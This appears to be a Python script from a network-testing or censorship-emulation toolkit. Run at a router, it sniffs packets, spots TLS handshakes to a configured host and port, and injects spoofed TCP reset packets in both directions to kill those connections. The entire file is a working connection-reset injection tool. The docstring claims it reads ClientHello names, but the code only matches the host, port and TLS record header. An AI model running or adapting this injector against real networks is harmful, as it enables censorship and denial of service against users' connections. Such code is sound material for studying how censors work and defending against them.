"""A box that reads the names in ClientHellos and resets their connections, both ways.

Run as `secure_injector.py JSON`, at the router. Like injector.py, with a hop count of its own.
"""

import json
import random
import socket
import struct
import sys

from flood import ip_header, transport

ETH_P_IP = 0x0800


def reset(ends, sequence, acknowledgment, ttl, rng):
    (source, sport), (target, dport) = ends
    data = struct.pack(">HHIIBBHHH", sport, dport, sequence, acknowledgment, 0x50, 0x14, 0, 0, 0)
    data = transport(source, target, 6, data, 16)
    return target, ip_header(source, target, 6, len(data), rng.randrange(1, 65536), ttl) + data


def resets_for(data, order, ttl, rng):
    """The two resets for a packet that begins a handshake with the service; none for others."""
    head = (data[0] & 15) * 4
    if data[9] != 6 or len(data) < head + 20:
        return []
    source, target = (socket.inet_ntoa(data[at:at + 4]) for at in (12, 16))
    sport, dport, sequence, acknowledgment = struct.unpack_from(">HHII", data, head)
    payload = data[head + (data[head + 12] >> 4) * 4:]
    if target != order["target"] or dport != order["port"] or payload[:2] != b"\x16\x03":
        return []
    client, server = (source, sport), (target, dport)
    behind = (sequence + len(payload)) & 0xffffffff
    return [reset((server, client), acknowledgment, behind, ttl, rng),
            reset((client, server), behind, acknowledgment, ttl, rng)]


def main():
    order = json.loads(sys.argv[1])
    rng = random.Random(order["seed"])
    ttl = rng.choice((255, 128, 200, 48))
    heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    heard.bind((order["device"], ETH_P_IP))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while True:
        data = heard.recv(65536)
        if len(data) > 20 and data[0] >> 4 == 4:
            for target, packet in resets_for(data, order, ttl, rng):
                out.sendto(packet, (target, 0))


if __name__ == "__main__":
    main()
